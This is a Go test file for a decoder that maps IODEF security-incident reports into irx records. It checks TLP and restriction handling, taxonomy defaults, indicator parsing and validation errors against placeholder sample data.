package iodef_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/encoding/protojson"
	"google.golang.org/protobuf/proto"

	"github.com/irxfed/irx/formats/iodef"
	irxv1 "github.com/irxfed/irx/proto/irx/v1"
	"github.com/irxfed/irx/record"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the mapping (review the diff)")

// The options as a command line passes them: the messages name its flags,
// as the golden files hold them.
var (
	tlpAmber = iodef.Options{DefaultTLP: irxv1.Tlp_TLP_AMBER,
		DefaultTLPName: "--tlp", DefaultTaxonomyName: "--taxonomy CLASS/TYPE"}
	tlpAndTaxonomy = iodef.Options{DefaultTLP: irxv1.Tlp_TLP_AMBER, DefaultTaxonomy: &irxv1.Taxonomy{Class: "other", Type: "undetermined"},
		DefaultTLPName: "--tlp", DefaultTaxonomyName: "--taxonomy CLASS/TYPE"}
	noDefaults = iodef.Options{DefaultTLPName: "--tlp", DefaultTaxonomyName: "--taxonomy CLASS/TYPE"}
)

func readTestdata(t testing.TB, name string) (string, []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return path, data
}

func decode(name string, data []byte, opts iodef.Options) (*iodef.Document, error) {
	return iodef.Decode(bytes.NewReader(data), name, opts)
}

func taxonomyLabel(t *irxv1.Taxonomy) string { return t.GetClass() + "/" + t.GetType() }

// render is a document's mapping as the golden files hold it: every
// incident as indented JSON (proto field names) or its error, then the
// warning.
func render(t *testing.T, doc *iodef.Document) string {
	t.Helper()
	var b strings.Builder
	for _, d := range doc.Incidents {
		fmt.Fprintf(&b, "## Incident %d (line %d)\n", d.Index, d.Line)
		if d.Err != nil {
			fmt.Fprintf(&b, "error: %v\n", d.Err)
			continue
		}
		raw, err := protojson.MarshalOptions{UseProtoNames: true}.Marshal(d.Incident)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := json.Indent(&buf, raw, "", "  "); err != nil {
			t.Fatal(err)
		}
		b.Write(buf.Bytes())
		b.WriteByte('\n')
	}
	fmt.Fprintf(&b, "## warning\n%s\n", doc.Warning())
	return b.String()
}

// TestMapping maps the samples and compares the result with the golden
// files, which were reviewed field by field against RFC 7970 and the
// comments of proto/irx/v1/incident.proto; the checks below pin the
// decisions that matter most.
func TestMapping(t *testing.T) {
	for _, tc := range []struct {
		file  string
		opts  iodef.Options
		check func(t *testing.T, incs []*irxv1.Incident, warning string)
	}{
		{"dos.xml", tlpAmber, func(t *testing.T, incs []*irxv1.Incident, warning string) {
			inc := incs[0]
			// need-to-know is TLP:AMBER+STRICT (derivation table), over
			// the default. The taxonomy is the IncidentCategory.
			if inc.GetTlp() != irxv1.Tlp_TLP_AMBER_STRICT || taxonomyLabel(inc.GetTaxonomy()) != "availability/ddos" {
				t.Errorf("tlp %v, taxonomy %v", inc.GetTlp(), inc.GetTaxonomy())
			}
			// The sender's ticket is an alternative id of its team; ours is
			// assigned on create.
			if inc.GetId() != "" || len(inc.GetAlternativeIds()) != 2 || inc.GetAlternativeIds()[0].GetTeamId() != "csirt.example.com" ||
				inc.GetAlternativeIds()[0].GetTicket() != "189801" || inc.GetAlternativeIds()[1].GetTeamId() != "cert.example.net" {
				t.Errorf("ids: %v %v", inc.GetId(), inc.GetAlternativeIds())
			}
			// Sources attack, targets are victims.
			if len(inc.GetAttackingHosts()) != 2 || len(inc.GetVictimHosts()) != 1 ||
				inc.GetVictimHosts()[0].GetHostname() != "shop.example.org" || inc.GetVictimHosts()[0].GetAddresses()[0] != "203.0.113.0/28" {
				t.Errorf("hosts: %v / %v", inc.GetAttackingHosts(), inc.GetVictimHosts())
			}
			// The victim's contact is private in an incident that is
			// need-to-know: it keeps its own restriction.
			if inc.GetRestriction() != irxv1.Restriction_RESTRICTION_NEED_TO_KNOW ||
				inc.GetContacts()[2].GetRestriction() != irxv1.Restriction_RESTRICTION_PRIVATE ||
				inc.GetContacts()[0].GetRestriction() != irxv1.Restriction_RESTRICTION_UNSPECIFIED {
				t.Errorf("restrictions: %v, contacts %v", inc.GetRestriction(), inc.GetContacts())
			}
			// A person within an organisation belongs to it.
			if c := inc.GetContacts()[1]; c.GetName() != "Erika Mustermann" || c.GetOrganization() != "Example CSIRT" || c.GetRole() != irxv1.ContactRole_CONTACT_ROLE_TECH {
				t.Errorf("nested contact: %v", c)
			}
			if m := inc.GetAssessments()[0].GetMonetaryImpact(); m.GetCurrency() != "EUR" || m.GetAmountMinor() != 1250050 {
				t.Errorf("monetary impact: %v", m)
			}
			if inc.GetGenerationTime() != nil || inc.GetSenderGenerationTime() == nil {
				t.Error("GenerationTime is output only in irx; the sender's is kept beside it")
			}
			if len(inc.GetExpectations()) == 0 {
				t.Error("Expectation not mapped")
			}
			if c := inc.GetContacts()[0]; c.GetPostalAddress() == "" || inc.GetAttackingHosts()[0].GetSpoofed() != "no" {
				t.Errorf("postal address, spoofed: %v %v", c, inc.GetAttackingHosts())
			}
			for _, want := range []string{"Incident/Contact/PostalAddress@type=mailing",
				"Incident/Assessment/TimeImpact", "Incident/EventData/Flow/System@ownership=customer",
				"Incident/History/HistoryItem@action=rate-limit-network (as remediate-other)"} {
				if !strings.Contains(warning, want) {
					t.Errorf("warning lacks %q: %s", want, warning)
				}
			}
		}},
		{"malware.xml", iodef.Options{DefaultTaxonomy: &irxv1.Taxonomy{Class: "malicious-code", Type: "infected-system"}}, func(t *testing.T, incs []*irxv1.Incident, warning string) {
			inc := incs[0]
			// restriction="green" is TLP:GREEN and, as RFC 7970 says,
			// "partner".
			if inc.GetTlp() != irxv1.Tlp_TLP_GREEN || inc.GetRestriction() != irxv1.Restriction_RESTRICTION_PARTNER {
				t.Errorf("tlp %v, restriction %v", inc.GetTlp(), inc.GetRestriction())
			}
			var kinds []string
			for _, ind := range inc.GetIndicators() {
				kinds = append(kinds, strings.TrimPrefix(ind.GetKind().String(), "INDICATOR_KIND_")+"="+ind.GetValue())
			}
			want := []string{"DOMAIN=kj290023j09r34.example.com", "DOMAIN=09ijk23jfj0k8.example.net", "DOMAIN=klknjwfjiowjefr923.example.org",
				"FILE_NAME=invoice_0226.dll", "FILE_HASH=8db53bd058cb1cdca807932cb5178cf220c784d15024366c94c3520b602a46ce",
				"IPV4=192.0.2.77", "EMAIL=billing@invoices.example.org"}
			if !slices.Equal(kinds, want) {
				t.Errorf("indicators:\n got %v\nwant %v", kinds, want)
			}
			// The amber indicator keeps need-to-know in a partner incident.
			if r := inc.GetIndicators()[5].GetRestriction(); r != irxv1.Restriction_RESTRICTION_NEED_TO_KNOW {
				t.Errorf("indicator restriction %v", r)
			}
			if m := inc.GetMethods()[0]; m.GetVulnerabilities()[0].GetCve() != "CVE-2023-23397" || !slices.Equal(m.GetAttackPatterns(), []string{"CAPEC-163"}) ||
				!slices.Equal(m.GetWeaknesses(), []string{"CWE-294"}) || m.GetRestriction() != irxv1.Restriction_RESTRICTION_NEED_TO_KNOW {
				t.Errorf("method: %v", m)
			}
			if ra := inc.GetRelatedActivity(); !slices.Equal(ra.GetIncidentIds(), []string{"csirt.example.com:897811"}) ||
				!slices.Equal(ra.GetThreatActors(), []string{"TA-12-AGGRESSIVE-BUTTERFLY"}) || !slices.Equal(ra.GetCampaigns(), []string{"C-2015-59405"}) {
				t.Errorf("related activity: %v", ra)
			}
			// Descriptions of threat actors and campaigns, by name.
			if ra := inc.GetRelatedActivity(); len(ra.GetThreatActorDescriptions()) != 1 || ra.GetThreatActorDescriptions()[0].GetDescription() != "Aggressive Butterfly" ||
				len(ra.GetCampaignDescriptions()) != 1 || ra.GetCampaignDescriptions()[0].GetName() != "C-2015-59405" || ra.GetCampaignDescriptions()[0].GetDescription() != "Orange Giraffe" {
				t.Errorf("related activity descriptions: %v", ra)
			}
			if a := inc.GetAssessments()[0]; a.GetConfidence() != 80 {
				t.Errorf("numeric confidence 0.8: %d", a.GetConfidence())
			}
			if inc.GetIndicators()[0].GetIodefId().GetId() == "" {
				t.Error("IndicatorID not kept")
			}
			for _, want := range []string{"Incident/IndicatorData/Indicator (line",
				"Incident/EventData/Record/RecordData (line", "Incident/IndicatorData/Indicator/Observable/EmailData/EmailSubject"} {
				if !strings.Contains(warning+",", want) {
					t.Errorf("warning lacks %q: %s", want, warning)
				}
			}
		}},
		{"multi.xml", tlpAndTaxonomy, func(t *testing.T, incs []*irxv1.Incident, warning string) {
			var got []string
			for _, inc := range incs {
				got = append(got, inc.GetTlp().String()+" "+taxonomyLabel(inc.GetTaxonomy()))
			}
			// Red from the document, the default where it says nothing,
			// private is red; the taxonomy from an IncidentCategory, from
			// an RSIT machine tag, from the default.
			want := []string{"TLP_RED fraud/phishing", "TLP_AMBER information-gathering/scanner", "TLP_RED other/undetermined"}
			if !slices.Equal(got, want) {
				t.Errorf("got %v, want %v", got, want)
			}
			if !strings.Contains(warning, "Incident[3]@restriction=private") {
				t.Errorf("paths in a document of several incidents name the incident: %s", warning)
			}
			if incs[1].GetAttackingHosts()[0].GetServices()[0].GetPortlist() != "22,23,2222" {
				t.Errorf("portlist: %v", incs[1].GetAttackingHosts())
			}
		}},
		{"codered-v1.xml", tlpAndTaxonomy, func(t *testing.T, incs []*irxv1.Incident, warning string) {
			inc := incs[0]
			// RFC 5070: the e-mail address is the content of Email;
			// Service takes ip_protocol.
			if inc.GetContacts()[0].GetEmail() != "contact@csirt.example.com" ||
				inc.GetVictimHosts()[0].GetServices()[0].GetIpProtocol() != 6 || inc.GetVictimHosts()[0].GetServices()[0].GetPort() != 80 {
				t.Errorf("v1 mapping: %v", inc)
			}
			if len(inc.GetLogExcerpts()) != 1 || inc.GetLogExcerpts()[0].GetSource() != "Web-server logs" {
				t.Errorf("log excerpts: %v", inc.GetLogExcerpts())
			}
			// v1 Impact is a SystemImpact; its type implies the taxonomy.
			if a := inc.GetAssessments(); len(a) == 0 || len(a[0].GetSystemImpacts()) == 0 {
				t.Errorf("v1 Impact not mapped: %v", a)
			}
			if h := inc.GetContacts()[0].GetRegistryHandles(); len(h) != 1 || h[0].GetRegistry() != "arin" {
				t.Errorf("registry handles: %v", h)
			}
			// A v1 Counter's type is v2's unit; Node/DateTime is when the
			// name was resolved.
			h := inc.GetAttackingHosts()[0]
			if c := h.GetCounters(); len(c) != 1 || c[0].GetValue() != 57 || c[0].GetUnit() != "event" || c[0].GetType() != "count" {
				t.Errorf("counters: %v", c)
			}
			if got := h.GetNameResolvedTime().AsTime(); !got.Equal(time.Date(2026, 1, 13, 16, 5, 0, 0, time.UTC)) {
				t.Errorf("name resolved at %v", got)
			}
			if !strings.Contains(warning, "Incident/EventData/Record/RecordData") || strings.Contains(warning, "Counter") || strings.Contains(warning, "DateTime") {
				t.Errorf("warning: %s", warning)
			}
		}},
		{"unknown-enum.xml", tlpAmber, nil},
	} {
		t.Run(tc.file, func(t *testing.T) {
			path, data := readTestdata(t, tc.file)
			doc, err := decode(path, data, tc.opts)
			if err != nil {
				t.Fatal(err)
			}
			got := render(t, doc)
			golden := strings.TrimSuffix(path, ".xml") + ".golden"
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update to write it)", err)
			}
			if got != string(want) {
				t.Errorf("mapping differs from %s (rerun with -update and review the diff):\n%s", golden, got)
			}
			var incs []*irxv1.Incident
			for _, d := range doc.Incidents {
				if d.Err == nil {
					// What the mapping makes is what the team accepts.
					if err := record.Validate(d.Incident, "incident"); err != nil {
						t.Errorf("Incident %d: %v", d.Index, err)
					}
					incs = append(incs, d.Incident)
				}
			}
			if tc.check != nil {
				tc.check(t, incs, doc.Warning())
			}
		})
	}
}

// TestErrors: every refusal names the document, the line and column, and
// the element; a problem with one Incident leaves the others usable.
func TestErrors(t *testing.T) {
	const (
		head = `<?xml version="1.0"?>` + "\n" + `<IODEF-Document version="2.00" xmlns="urn:ietf:params:xml:ns:iodef-2.0">` + "\n"
		tail = "</IODEF-Document>\n"
	)
	incident := func(body string) string {
		return head + `<Incident purpose="reporting">` + "\n" +
			`<IncidentID name="csirt.example.com">1</IncidentID>` + "\n" +
			`<GenerationTime>2026-03-01T00:00:00Z</GenerationTime>` + "\n" +
			body + "\n" +
			`<Contact role="creator" type="organization"/>` + "\n" +
			"</Incident>\n" + tail
	}
	deep := head + strings.Repeat("<Incident>", iodef.MaxDepth) + strings.Repeat("</Incident>", iodef.MaxDepth) + tail
	oversize := head + "<!--" + strings.Repeat("x", iodef.MaxDocumentBytes) + "-->\n" + tail

	for _, tc := range []struct {
		name, file string // a testdata file, or the content
		data       string
		opts       iodef.Options
		docErr     string   // the error of the whole document
		incErrs    []string // else the errors of the incidents, in order ("" for none)
	}{
		{name: "bad namespace", file: "bad-namespace.xml", opts: tlpAndTaxonomy,
			docErr: `testdata/bad-namespace.xml:3:1: IODEF-Document: namespace "urn:ietf:params:xml:ns:iodef" is not IODEF: want urn:ietf:params:xml:ns:iodef-2.0 (IODEF v2, RFC 7970) or urn:ietf:params:xml:ns:iodef-1.0 (v1, RFC 5070)`},
		{name: "truncated", file: "truncated.xml", opts: tlpAndTaxonomy,
			docErr: `testdata/truncated.xml:17:45: IODEF-Document/Incident/Description: XML syntax error: unexpected EOF`},
		{name: "unknown enum values", file: "unknown-enum.xml", opts: tlpAmber, incErrs: []string{"",
			`testdata/unknown-enum.xml:16:3: Incident[2]@status: "pending" is not an IODEF status; one of new, in-progress, forwarded, resolved, future, ext-value` + "\n" +
				`testdata/unknown-enum.xml:24:9: Incident[2]/EventData/Flow/System@category: "attacker" is not an IODEF system category; one of source, target, intermediate, sensor, infrastructure, ext-value`}},
		// Both derive TLP and taxonomy from the document: no defaults
		// needed.
		{name: "TLP derived", file: "dos.xml", opts: noDefaults, incErrs: []string{""}},
		{name: "taxonomy derived", file: "malware.xml", opts: noDefaults, incErrs: []string{""}},
		{name: "oversize", data: oversize, opts: tlpAndTaxonomy,
			docErr: "big.xml:1:1: IODEF-Document: the document is more than 4 MiB; the limit is 4194304 bytes (4 MiB): split it into several files"},
		{name: "too deep", data: deep, opts: tlpAndTaxonomy,
			docErr: "big.xml:3:" + fmt.Sprint(1+10*(iodef.MaxDepth-1)) + ": IODEF-Document" + strings.Repeat("/Incident", iodef.MaxDepth) + ": elements nested more than 48 deep"},
		{name: "empty", data: "", docErr: "big.xml:1:1: IODEF-Document: no XML element: not an IODEF document"},
		{name: "entity cut by a line break", data: "&\n", docErr: "big.xml:1:2: IODEF-Document: XML syntax error: invalid character entity & (no semicolon)"},
		{name: "not IODEF", data: "<html><body/></html>", docErr: "big.xml:1:1: html: not an IODEF document: the root element must be IODEF-Document (RFC 7970)"},
		{name: "two roots", data: head + tail + head + tail, docErr: "big.xml:5:1: IODEF-Document: a second top-level element"},
		{name: "no incident", data: head + tail, docErr: "big.xml:2:1: IODEF-Document: holds no Incident element"},
		{name: "not UTF-8", data: `<?xml version="1.0" encoding="ISO-8859-1"?><IODEF-Document/>`,
			docErr: `big.xml:1:44: IODEF-Document: encoding "ISO-8859-1" declared but Decoder.CharsetReader is nil`},
		{name: "missing IncidentID", data: head + `<Incident purpose="reporting"><GenerationTime>2026-03-01T00:00:00Z</GenerationTime></Incident>` + tail, opts: tlpAndTaxonomy,
			incErrs: []string{"big.xml:3:1: Incident: has no IncidentID (RFC 7970 requires one)"}},
		{name: "unknown purpose", data: strings.Replace(incident(""), `purpose="reporting"`, `purpose="urgent"`, 1), opts: tlpAndTaxonomy,
			incErrs: []string{`big.xml:3:1: Incident@purpose: "urgent" is not an IODEF purpose; one of traceback, mitigation, reporting, watch, other, ext-value`}},
		{name: "unknown restriction", data: strings.Replace(incident(""), `purpose="reporting"`, `purpose="reporting" restriction="secret"`, 1), opts: tlpAndTaxonomy,
			incErrs: []string{`big.xml:3:1: Incident@restriction: "secret" is not an IODEF restriction; one of default, public, partner, need-to-know, private, white, green, amber, red, ext-value`}},
		{name: "bad address", data: incident(`<EventData><Flow><System category="target"><Node><Address category="ipv4-addr">192.0.2.300</Address></Node></System></Flow></EventData>`), opts: tlpAndTaxonomy,
			incErrs: []string{`big.xml:6:50: Incident/EventData/Flow/System/Node/Address: "192.0.2.300" is not an IP address or CIDR prefix`}},
		{name: "address of the wrong family", data: incident(`<EventData><Flow><System category="source"><Node><Address category="ipv4-addr">2001:db8::1</Address></Node></System></Flow></EventData>`), opts: tlpAndTaxonomy,
			incErrs: []string{`big.xml:6:50: Incident/EventData/Flow/System/Node/Address: "2001:db8::1" is not an IPv4 address`}},
		{name: "bad port", data: incident(`<EventData><Flow><System category="target"><Node><Address>192.0.2.1</Address></Node><Service ip-protocol="6"><Port>70000</Port></Service></System></Flow></EventData>`), opts: tlpAndTaxonomy,
			incErrs: []string{`Incident/EventData/Flow/System/Service/Port: "70000" is not a port (0 to 65535)`}},
		{name: "bad protocol", data: incident(`<EventData><Flow><System category="target"><Node><Address>192.0.2.1</Address></Node><Service ip-protocol="tcp"/></System></Flow></EventData>`), opts: tlpAndTaxonomy,
			incErrs: []string{`Incident/EventData/Flow/System/Service@ip-protocol: "tcp" is not an IANA protocol number (0 to 255)`}},
		{name: "time without zone", data: strings.Replace(incident(""), "<GenerationTime>", "<StartTime>2026-03-01T10:00:00</StartTime><GenerationTime>", 1), opts: tlpAndTaxonomy,
			incErrs: []string{`big.xml:5:1: Incident/StartTime: "2026-03-01T10:00:00" is not a date and time with a time zone (RFC 3339, e.g. 2026-03-01T12:00:00Z)`}},
		{name: "end before start", data: strings.Replace(incident(""), "<GenerationTime>", "<StartTime>2026-03-01T10:00:00Z</StartTime><EndTime>2026-03-01T09:00:00Z</EndTime><GenerationTime>", 1), opts: tlpAndTaxonomy,
			incErrs: []string{`big.xml:5:44: Incident/EndTime: is before StartTime`}},
		{name: "IncidentID without name", data: strings.Replace(incident(""), ` name="csirt.example.com"`, "", 1), opts: tlpAndTaxonomy,
			incErrs: []string{`big.xml:4:1: Incident/IncidentID@name: is required: the team (CSIRT) that issued the id`}},
		{name: "bad indicator", data: incident(`<IndicatorData><Indicator><IndicatorID name="x" version="1">I1</IndicatorID><Observable><BulkObservable type="ipv4-addr"><BulkObservableList>192.0.2.1 2001:db8::2</BulkObservableList></BulkObservable></Observable></Indicator></IndicatorData>`), opts: tlpAndTaxonomy,
			incErrs: []string{`Incident/IndicatorData/Indicator/Observable/BulkObservable/BulkObservableList: "2001:db8::2" is not an IPv4 address or prefix`}},
		{name: "bad digest", data: incident(`<IndicatorData><Indicator><IndicatorID name="x" version="1">I1</IndicatorID><Observable><FileData><File><HashData scope="file-contents"><Hash><DigestValue xmlns="http://www.w3.org/2000/09/xmldsig#">not base64!</DigestValue></Hash></HashData></File></FileData></Observable></Indicator></IndicatorData>`), opts: tlpAndTaxonomy,
			incErrs: []string{`Incident/IndicatorData/Indicator/Observable/FileData/File/HashData/Hash/ds:DigestValue: "not base64!" is not a base64 digest`}},
		{name: "bad confidence", data: incident(`<Assessment occurrence="actual"><SystemImpact type="unknown"/><Confidence rating="numeric">250</Confidence></Assessment>`), opts: tlpAndTaxonomy,
			incErrs: []string{`Incident/Assessment/Confidence: 250 is outside 0 to 1 (a fraction) and 0 to 100 (a percentage)`}},
		{name: "unknown currency", data: incident(`<Assessment occurrence="actual"><MonetaryImpact currency="xyz">12</MonetaryImpact></Assessment>`), opts: tlpAndTaxonomy,
			incErrs: []string{`Incident/Assessment/MonetaryImpact@currency: "XYZ" is not a current ISO 4217 currency code`}},
		{name: "domain observable with a path", data: incident(`<IndicatorData><Indicator><IndicatorID name="x" version="1">I1</IndicatorID><Observable><DomainData><Name>evil.example/secret-path</Name></DomainData></Observable></Indicator></IndicatorData>`), opts: tlpAndTaxonomy,
			incErrs: []string{`Incident/IndicatorData/Indicator/Observable/DomainData: "evil.example/secret-path" is not a domain name`}},
		{name: "bulk domain that is an address", data: incident(`<IndicatorData><Indicator><IndicatorID name="x" version="1">I1</IndicatorID><Observable><BulkObservable type="domain-name"><BulkObservableList>c2.example 192.0.2.7</BulkObservableList></BulkObservable></Observable></Indicator></IndicatorData>`), opts: tlpAndTaxonomy,
			incErrs: []string{`BulkObservableList: "192.0.2.7" is not a domain name`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			path, data := "big.xml", []byte(tc.data)
			if tc.file != "" {
				path, data = readTestdata(t, tc.file)
			}
			doc, err := decode(path, data, tc.opts)
			if tc.docErr != "" {
				var e *iodef.Error
				if err == nil || !errors.As(err, &e) || !strings.Contains(err.Error(), tc.docErr) {
					t.Fatalf("got %v\nwant %s", err, tc.docErr)
				}
				if doc != nil {
					t.Error("a document and an error")
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if len(doc.Incidents) != len(tc.incErrs) {
				t.Fatalf("%d incidents, want %d", len(doc.Incidents), len(tc.incErrs))
			}
			for i, want := range tc.incErrs {
				d := doc.Incidents[i]
				switch {
				case want == "" && d.Err != nil:
					t.Errorf("Incident %d: %v", i+1, d.Err)
				case want != "" && (d.Err == nil || !strings.Contains(d.Err.Error(), want)):
					t.Errorf("Incident %d:\n got %v\nwant %s", i+1, d.Err, want)
				case want != "" && d.Incident != nil:
					t.Errorf("Incident %d has both an error and a record", i+1)
				}
			}
		})
	}
}

// TestErrorList: an Incident's problems are an ErrorList of *Error, each
// with its place; without a document name the place is "line L:C".
func TestErrorList(t *testing.T) {
	path, data := readTestdata(t, "unknown-enum.xml")
	for _, name := range []string{path, ""} {
		doc, err := decode(name, data, tlpAmber)
		if err != nil {
			t.Fatal(err)
		}
		var list iodef.ErrorList
		if !errors.As(doc.Incidents[1].Err, &list) || len(list) != 3 {
			t.Fatalf("Incident 2: %#v", doc.Incidents[1].Err)
		}
		if e := list[1]; e.Name != name || e.Line != 24 || e.Column != 9 || e.Path != "Incident[2]/EventData/Flow/System@category" {
			t.Errorf("second problem: %+v", e)
		}
		want := `line 16:3: Incident[2]@status: "pending" is not an IODEF status`
		if name != "" {
			want = path + ":16:3: Incident[2]@status"
		}
		if got := list[0].Error(); !strings.HasPrefix(got, want) {
			t.Errorf("Error() = %q, want it to start %q", got, want)
		}
		var first *iodef.Error
		if !errors.As(doc.Incidents[1].Err, &first) || first != list[0] {
			t.Errorf("errors.As finds %v, want the first problem", first)
		}
	}
}

// TestDefaults: the defaults fill in what IODEF cannot say and only that;
// without them the refusals say what is missing (errors.Is), in the words
// the caller chose, or in their own.
func TestDefaults(t *testing.T) {
	_, data := readTestdata(t, "multi.xml")
	doc, err := decode("multi.xml", data, iodef.Options{})
	if err != nil {
		t.Fatal(err)
	}
	// Incident 1 has TLP:RED and a taxonomy; 2 has a taxonomy and no
	// restriction: RFC 7970's default, private, is TLP:RED; 3 is private
	// and has no taxonomy.
	if d := doc.Incidents[0]; d.Err != nil || d.Incident.GetTlp() != irxv1.Tlp_TLP_RED || !slices.Equal(d.Derived, []string{"tlp", "taxonomy"}) {
		t.Errorf("Incident 1: %v %v %v", d.Err, d.Incident, d.Derived)
	}
	if d := doc.Incidents[1]; d.Err != nil || d.Incident.GetTlp() != irxv1.Tlp_TLP_RED || len(d.Defaulted) != 0 {
		t.Errorf("Incident 2: %v %v", d.Err, d.Incident)
	}
	if err := doc.Incidents[2].Err; errors.Is(err, iodef.ErrNoTLP) || !errors.Is(err, iodef.ErrNoTaxonomy) ||
		!strings.Contains(err.Error(), `rsit:class="type"): pass a default taxonomy CLASS/TYPE`) {
		t.Errorf("Incident 3: %v", err)
	}

	opts := iodef.Options{DefaultTLP: irxv1.Tlp_TLP_GREEN, DefaultTaxonomy: &irxv1.Taxonomy{Class: "other", Type: "other"}}
	doc, err = decode("multi.xml", data, opts)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, d := range doc.Incidents {
		if d.Err != nil {
			t.Fatalf("Incident %d: %v", d.Index, d.Err)
		}
		got = append(got, d.Incident.GetTlp().String()+" "+taxonomyLabel(d.Incident.GetTaxonomy()))
	}
	if want := []string{"TLP_RED fraud/phishing", "TLP_GREEN information-gathering/scanner", "TLP_RED other/other"}; !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
	// The document's own TLP wins over the default, and the warning says so.
	if w := doc.Warning(); !strings.Contains(w, "Incident[1]@restriction=red (TLP:RED kept over the default TLP:GREEN)") {
		t.Errorf("warning: %s", w)
	}
	// Each incident has its own copy of the default taxonomy.
	doc.Incidents[2].Incident.GetTaxonomy().Type = "changed"
	if opts.DefaultTaxonomy.GetType() != "other" {
		t.Error("the incident shares the caller's taxonomy")
	}
}

// TestValuesIrxHasNoVocabularyFor: what XML allows but irx's vocabularies
// do not (an xml:lang that is no language tag, a node name that is no host
// name) is left out and said in the warning; the rest of the incident is
// imported.
func TestValuesIrxHasNoVocabularyFor(t *testing.T) {
	const doc = `<?xml version="1.0"?>
<IODEF-Document version="2.00" xml:lang="English (UK)" xmlns="urn:ietf:params:xml:ns:iodef-2.0">
<Incident purpose="reporting">
<IncidentID name="csirt.example.com">1</IncidentID>
<GenerationTime>2026-03-01T00:00:00Z</GenerationTime>
<Description>defaced</Description>
<Description xml:lang="de-CH">verunstaltet</Description>
<EventData><Flow><System category="target"><Node><DomainData><Name>mail server 3 (owner: J. Doe)</Name></DomainData><Address>192.0.2.1</Address></Node></System></Flow></EventData>
<Contact role="creator" type="organization"/>
</Incident>
</IODEF-Document>
`
	d, err := decode("odd.xml", []byte(doc), tlpAndTaxonomy)
	if err != nil || len(d.Incidents) != 1 || d.Incidents[0].Err != nil {
		t.Fatalf("%v %+v", err, d)
	}
	inc := d.Incidents[0].Incident
	if ds := inc.GetDescriptions(); len(ds) != 2 || ds[0].GetLang() != "" || ds[0].GetText() != "defaced" || ds[1].GetLang() != "de-CH" {
		t.Errorf("descriptions %v", ds)
	}
	if h := inc.GetVictimHosts(); len(h) != 1 || h[0].GetHostname() != "" || h[0].GetAddresses()[0] != "192.0.2.1" {
		t.Errorf("victim hosts %v", h)
	}
	w := d.Warning()
	for _, want := range []string{
		"odd.xml: IODEF kept verbatim (no irx field): ",
		"Incident/EventData/Flow/System/Node/DomainData (not a host name)",
		"Incident/Description@xml:lang=English (UK) (not a BCP 47 language tag",
	} {
		if !strings.Contains(w, want) {
			t.Errorf("warning lacks %q: %s", want, w)
		}
	}
	if strings.Contains(w, "de-CH") {
		t.Errorf("a valid tag is in the warning: %s", w)
	}
}

// TestRestrictions: irx keeps the parts of an incident flat, so a
// restriction IODEF puts on a container (EventData, Record, FileData...)
// must reach every part made from it; a part irx cannot restrict is left
// out when it is stricter than the incident.
func TestRestrictions(t *testing.T) {
	data := `<IODEF-Document xmlns="urn:ietf:params:xml:ns:iodef-2.0" xmlns:ds="http://www.w3.org/2000/09/xmldsig#">
<Incident purpose="reporting" restriction="white">
<IncidentID name="csirt.example.com" restriction="red">7</IncidentID>
<GenerationTime>2026-03-01T00:00:00Z</GenerationTime>
<Description>public summary</Description>
<Discovery source="partner" restriction="public"/>
<Contact role="creator" type="organization" restriction="default"/>
<EventData restriction="need-to-know">
  <Description>site details</Description>
  <Discovery source="investigation"/>
  <Flow><System category="target"><Node><Address>192.0.2.1</Address></Node></System></Flow>
  <Record><RecordData restriction="ext-value" ext-restriction="eyes-only"><RecordItem dtype="string">log</RecordItem></RecordData></Record>
</EventData>
<IndicatorData><Indicator>
  <IndicatorID name="csirt.example.com" version="1">I1</IndicatorID>
  <Observable><FileData restriction="amber"><File><FileName>a.exe</FileName></File></FileData></Observable>
</Indicator></IndicatorData>
</Incident></IODEF-Document>`
	doc, err := decode("r.xml", []byte(data), iodef.Options{DefaultTaxonomy: &irxv1.Taxonomy{Class: "test", Type: "test"}})
	if err != nil {
		t.Fatal(err)
	}
	d := doc.Incidents[0]
	if d.Err != nil {
		t.Fatal(d.Err)
	}
	inc := d.Incident
	const (
		unset  = irxv1.Restriction_RESTRICTION_UNSPECIFIED
		public = irxv1.Restriction_RESTRICTION_PUBLIC
		ntk    = irxv1.Restriction_RESTRICTION_NEED_TO_KNOW
		priv   = irxv1.Restriction_RESTRICTION_PRIVATE
	)
	for _, c := range []struct {
		what      string
		got, want irxv1.Restriction
	}{
		{"incident (white is public and TLP:CLEAR)", inc.GetRestriction(), public},
		{"the red IncidentID", inc.GetAlternativeIds()[0].GetRestriction(), priv},
		{"the incident's description", inc.GetDescriptions()[0].GetRestriction(), unset},
		{"the EventData description", inc.GetDescriptions()[1].GetRestriction(), ntk},
		{"the default contact", inc.GetContacts()[0].GetRestriction(), unset},
		{"the EventData host", inc.GetVictimHosts()[0].GetRestriction(), ntk},
		{"the ext-value record", inc.GetLogExcerpts()[0].GetRestriction(), priv},
		{"the amber FileData", inc.GetIndicators()[0].GetRestriction(), ntk},
	} {
		if c.got != c.want {
			t.Errorf("%s: %v, want %v", c.what, c.got, c.want)
		}
	}
	if inc.GetTlp() != irxv1.Tlp_TLP_CLEAR {
		t.Errorf("tlp %v", inc.GetTlp())
	}
	// Discovery has no restriction in irx: the public one is kept, the one
	// of the need-to-know EventData is left out, and the warning says why.
	if len(inc.GetDiscoveries()) != 1 || inc.GetDiscoveries()[0].GetSource() != irxv1.DiscoverySource_DISCOVERY_SOURCE_PARTNER {
		t.Errorf("discoveries: %v", inc.GetDiscoveries())
	}
	w := doc.Warning()
	for _, want := range []string{
		"Incident/EventData/Discovery (its restriction is stricter than the incident's and irx keeps none here)",
		`Incident/EventData/Record/RecordData@restriction=ext-value (ext-restriction "eyes-only" kept as private)`,
	} {
		if !strings.Contains(w, want) {
			t.Errorf("warning lacks %q: %s", want, w)
		}
	}
}

// TestDTDRefused: any DTD is refused with its place, whatever it declares
